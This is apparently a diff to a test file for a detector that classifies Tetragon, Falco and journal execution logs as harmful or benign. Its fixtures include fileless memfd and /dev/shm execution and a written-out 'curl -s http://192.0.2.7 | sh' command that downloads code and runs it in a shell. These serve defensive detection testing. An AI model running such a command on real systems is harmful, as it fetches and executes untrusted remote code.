@@ -45,6 +45,17 @@ def events(*lines: Json | str | bytes) -> list[LogEvent]:
     return [a for a in taken(*lines).artifacts if isinstance(a, LogEvent)]
 
 
+def tetragon(binary: str, words: str = "", parent: str = "/usr/bin/bash", **more: Any) -> Json:
+    """An execution as Tetragon exports it."""
+    process = {"pid": 44, "uid": 0, "cwd": "/", "binary": binary, "arguments": words,
+               "start_time": "2026-01-02T03:04:05.678Z", **more}  # fmt: skip
+    return {"process_exec": {"process": process, "parent": {"pid": 9, "binary": parent}},
+            "node_name": "n", "time": "2026-01-02T03:04:05.678Z"}  # fmt: skip
+
+
+NAMELESS: Json = {"binary_properties": {"file": {"inode": {"number": "45021", "links": 0}}}}
+
+
 # --- Tracee -------------------------------------------------------------------------------------
 
 
@@ -142,6 +153,10 @@ HARMFUL: tuple[tuple[str, Json | str | bytes, str], ...] = (
         "x | proc_exepath=memfd:evil parent=python3 exe_flags=EXE_WRITABLE|EXE_FROM_MEMFD"}, "logged-exe-memfd"),
     ("falco, text", ("19:20:21.123456789: Critical Fileless execution via memfd_create (user=root "
      "process=3 proc_exepath=memfd:evil parent=python3 command=evil -x terminal=0)"), "logged-exe-memfd"),
+    # Tetragon
+    ("tetragon, no name", tetragon("/proc/self/fd/3", "--x", "/usr/bin/python3", **NAMELESS), "logged-descriptor"),
+    ("tetragon, shm", tetragon("/dev/shm/x"), "logged-exe-volatile"),
+    ("tetragon, command", tetragon("/bin/bash", '-c "curl -s http://192.0.2.7 | sh"'), "logged-command"),
     # others
     ("audit", event(MEMFD, ("x",)), "logged-exe-memfd"),
     ("journal, JSON", {"__CURSOR": "c", "__REALTIME_TIMESTAMP": "1767225600000000", "_EXE": MEMFD, "MESSAGE": "x"},
@@ -170,6 +185,10 @@ BENIGN: tuple[tuple[str, Json | str | bytes], ...] = (
     ("falco, runc", {"rule": "Fileless execution via memfd_create", "priority": "Critical", "tags": ["T1620"],
         "output_fields": {"proc.exepath": "memfd:runc_cloned:/proc/self/exe", "proc.name": "6",
                           "proc.cmdline": "6 init", "proc.pname": "runc"}}),
+    ("tetragon, ls", tetragon("/usr/bin/ls", "/dev/shm")),
+    ("tetragon, runc", tetragon("/proc/self/fd/6", "init", "/usr/bin/runc", **NAMELESS)),
+    ("tetragon, exit", {"process_exit": tetragon("/dev/shm/x")["process_exec"]}),
+    ("tetragon, nothing", {"process_exec": {"process": [], "parent": None}}),
     ("audit", event("/usr/bin/ls", ("ls",))),
     ("journal", {"__CURSOR": "c", "_EXE": "/usr/sbin/sshd", "MESSAGE": "python: memfd_create()"}),
     ("export", b"__CURSOR=c\n_EXE=/usr/sbin/sshd\nMESSAGE=memfd\n"),
